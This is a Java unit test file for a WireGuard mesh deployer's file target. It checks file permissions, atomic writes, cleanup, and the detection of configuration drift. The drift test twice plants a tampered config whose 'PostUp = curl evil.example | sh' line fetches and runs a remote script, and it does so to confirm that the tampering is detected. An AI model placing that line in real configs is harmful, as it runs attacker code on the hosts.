package dev.wgmesh.deployer.domain;

import static org.assertj.core.api.Assertions.assertThat;

import dev.wgmesh.common.events.HostConfigRendered;
import dev.wgmesh.common.events.HostHealthReported.Drift;
import dev.wgmesh.common.group.GroupName;
import dev.wgmesh.common.group.HostName;
import dev.wgmesh.common.group.HostOs;
import dev.wgmesh.common.wireguard.InterfaceName;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.BasicFileAttributes;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import dev.wgmesh.deployer.TestGroup;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FileTargetTest {

    @TempDir
    Path out;

    private final HostRef host = new HostRef(GroupName.parse("g1"), HostName.parse("alpha"), HostOs.LINUX, 3);

    @Test
    void writesFilesWithMode0600InFolders0700() throws Exception {
        FileTarget target = new FileTarget(out);
        target.apply(host, files("wg-1", "one", "wg-2", "two"));

        Path dir = out.resolve("g1/alpha");
        assertThat(Files.readString(dir.resolve("wg-1.conf"))).isEqualTo("one");
        assertThat(Files.readString(dir.resolve("wg-2.conf"))).isEqualTo("two");
        assertThat(mode(dir.resolve("wg-1.conf"))).isEqualTo("rw-------");
        assertThat(mode(dir.resolve("wg-2.conf"))).isEqualTo("rw-------");
        assertThat(mode(dir)).isEqualTo("rwx------");
        assertThat(mode(out.resolve("g1"))).isEqualTo("rwx------");
    }

    @Test
    void atomicWritesLeaveNoTempFilesAndCleanUpOldOnes() throws Exception {
        FileTarget target = new FileTarget(out);
        target.apply(host, files("wg-1", "one"));
        Path dir = out.resolve("g1/alpha");
        Files.writeString(dir.resolve(".wg-1.conf.123.tmp"), "left by a crash");

        target.apply(host, files("wg-1", "one, changed"));

        assertThat(list(dir)).containsExactly("wg-1.conf");
        assertThat(Files.readString(dir.resolve("wg-1.conf"))).isEqualTo("one, changed");
    }

    @Test
    void deletesAnInterfaceNoLongerDesiredAndKeepsOtherFiles() throws Exception {
        FileTarget target = new FileTarget(out);
        target.apply(host, files("wg-1", "one", "wg-2", "two"));
        Path dir = out.resolve("g1/alpha");
        Files.writeString(dir.resolve("notes.txt"), "not ours");

        String changes = target.apply(host, files("wg-1", "one"));

        assertThat(list(dir)).containsExactly("notes.txt", "wg-1.conf");
        assertThat(changes).contains("removed [wg-2]").contains("unchanged [wg-1]");
    }

    @Test
    void unchangedFileIsNotRewritten() throws Exception {
        FileTarget target = new FileTarget(out);
        target.apply(host, files("wg-1", "one", "wg-2", "two"));
        Path one = out.resolve("g1/alpha/wg-1.conf");
        Path two = out.resolve("g1/alpha/wg-2.conf");
        FileTime old = FileTime.fromMillis(1_000_000_000L);
        Files.setLastModifiedTime(one, old);
        Object inode = Files.readAttributes(one, BasicFileAttributes.class).fileKey();
        Object otherInode = Files.readAttributes(two, BasicFileAttributes.class).fileKey();

        String changes = target.apply(host, files("wg-1", "one", "wg-2", "two, changed"));

        assertThat(Files.getLastModifiedTime(one)).isEqualTo(old);
        assertThat(Files.readAttributes(one, BasicFileAttributes.class).fileKey()).isEqualTo(inode);
        assertThat(Files.readAttributes(two, BasicFileAttributes.class).fileKey()).isNotEqualTo(otherInode);
        assertThat(changes).isEqualTo("added [], updated [wg-2], removed [], unchanged [wg-1]");
    }

    @Test
    void removeDeletesTheHostFolderOnly() throws Exception {
        FileTarget target = new FileTarget(out);
        target.apply(host, files("wg-1", "one"));
        HostRef other = new HostRef(GroupName.parse("g1"), HostName.parse("beta"), HostOs.LINUX, 3);
        target.apply(other, files("wg-1", "one"));

        target.remove(host);

        assertThat(out.resolve("g1/alpha")).doesNotExist();
        assertThat(out.resolve("g1/beta/wg-1.conf")).exists();
        assertThat(target.remove(host)).isEqualTo("nothing to remove");
    }

    @Test
    void observingReadsTheFilesBackAndTellsDeletedEditedAndBrokenOnes() throws Exception {
        TestGroup group = new TestGroup("g1", 3);
        HostConfigRendered h2 = group.render(1).get(group.host(2));
        SecretFiller.Filled filled = new SecretFiller(List.of(TestGroup.DEPLOYER.privateKey())).fill(h2, null);
        DesiredFiles desired = filled.files();
        ExpectedHost expected = filled.expected();
        HostRef ref = new HostRef(group.group, h2.host(), HostOs.LINUX, 1);
        FileTarget target = new FileTarget(out);
        assertThat(target.observe(ref, expected).interfaces()).isEmpty();
        target.apply(ref, desired);
        Path dir = target.hostDir(ref);

        HostObservation observed = target.observe(ref, expected);
        assertThat(observed.runtime()).isFalse();
        // the declared bytes are not parsed again
        assertThat(observed.interfaces()).extracting(HostObservation.ObservedInterface::state)
                .containsOnly(HostObservation.State.AS_DECLARED);
        assertThat(DriftCheck.compare(expected, observed).drift()).isEqualTo(Drift.IN_SYNC);

        Files.delete(dir.resolve("wg-1.conf"));
        String wg2 = Files.readString(dir.resolve("wg-2.conf"));
        int port = h2.interfaces().get(1).listenPort();
        Files.writeString(dir.resolve("wg-2.conf"), wg2.replace("ListenPort = " + port, "ListenPort = 40000"));
        Files.writeString(dir.resolve("wg-7.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
        Files.writeString(dir.resolve("notes.txt"), "not a config");

        DriftCheck.Result result = DriftCheck.compare(expected, target.observe(ref, expected));
        assertThat(result.drift()).isEqualTo(Drift.MISSING);
        assertThat(result.differences()).containsExactly("wg-1: file missing",
                "wg-2: file differs from the declared one", "wg-2: listen port 40000, declared " + port,
                "wg-7: interface not declared");
        Files.delete(dir.resolve("wg-7.conf"));
        Files.writeString(dir.resolve("wg-1.conf"), "[Interface]\nPostUp = curl evil.example | sh\n");
        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).differences()).first().asString()
                .startsWith("wg-1: file differs from the declared one");
        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).differences()).element(1).asString()
                .startsWith("wg-1: file is not a valid config: line 2");

        target.apply(ref, desired);
        assertThat(DriftCheck.compare(expected, target.observe(ref, expected)).drift()).isEqualTo(Drift.IN_SYNC);
    }

    static DesiredFiles files(String... nameAndContent) {
        Map<InterfaceName, byte[]> files = new LinkedHashMap<>();
        for (int i = 0; i < nameAndContent.length; i += 2) {
            files.put(new InterfaceName(nameAndContent[i]), nameAndContent[i + 1].getBytes(StandardCharsets.UTF_8));
        }
        return DesiredFiles.of(files);
    }

    static String mode(Path path) throws IOException {
        return PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
    }

    static java.util.List<String> list(Path dir) throws IOException {
        try (Stream<Path> paths = Files.list(dir)) {
            return paths.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }
}
